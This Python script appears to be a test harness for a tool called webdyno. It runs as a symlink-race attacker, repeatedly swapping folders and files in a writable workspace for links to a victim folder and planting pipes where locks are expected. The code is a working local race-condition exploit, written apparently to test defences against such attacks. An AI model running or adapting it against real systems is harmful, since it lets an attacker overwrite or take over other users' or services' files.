"""Plants symbolic links and pipes wherever the user it runs as may write below a folder.

`attacker.py LIVE VICTIM`: LIVE is where webdyno makes its work spaces, VICTIM a folder whose files
it wants for itself. Whatever folder it finds it swaps for a link to VICTIM, whatever file for one
to a file there, again and again, as fast as it can; it also puts pipes where locks are looked for,
and links where files will be made. Reported to end, it prints how often it got something in place.
"""

# ruff: noqa: PTH104, PTH211 (Path takes longer)

import os
import signal
import sys
import time
from collections.abc import Iterator
from contextlib import suppress

GUESSES = ("nginx", "phpfpm", "web", "_state", "state", "_site", "site", "root", "app", "data")
FILES = ("nginx.conf", "lock", "guard", "_said-0", "config.txt", "listen.sock", "status.sock")


def swap(path: str, goal: str) -> int:
    """Put a link in the place of something; 1 if that was possible."""
    with suppress(OSError):
        os.rename(path, f"{path}.x{time.monotonic_ns()}")
        os.symlink(goal, path)
        return 1
    return 0


def plant(folder: str, victim: str) -> int:
    """Put links where webdyno may be about to make something; the number of them."""
    planted = 0
    for name in GUESSES:
        with suppress(OSError):
            os.symlink(victim, f"{folder}/{name}")
            planted += 1
    for name in FILES:
        with suppress(OSError):
            if name == "lock":
                os.mkfifo(f"{folder}/{name}")
            else:
                os.symlink(f"{victim}/file", f"{folder}/{name}")
            planted += 1
    return planted


def walk(top: str) -> Iterator[tuple[str, list[str], list[str]]]:
    """Yield what is below a folder; of folders that can't be listed what has a name to guess."""
    for folder, folders, files in os.walk(top):
        yield folder, folders, files
        for closed in (f"{folder}/{name}" for name in folders):
            if not os.access(closed, os.R_OK):
                for name in GUESSES:
                    yield from walk(f"{closed}/{name}")


def main(live: str, victim: str) -> None:
    """Attack until reported to end; then say how often it worked."""
    done = 0

    def end(*_: object) -> None:
        print(done, flush=True)  # noqa: T201
        os._exit(0)

    signal.signal(signal.SIGTERM, end)
    while True:
        for top, folders, files in walk(live):
            if not os.access(top, os.W_OK):
                continue
            done += plant(top, victim)
            done += sum(swap(f"{top}/{name}", victim) for name in folders)
            done += sum(swap(f"{top}/{name}", f"{victim}/file") for name in files)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
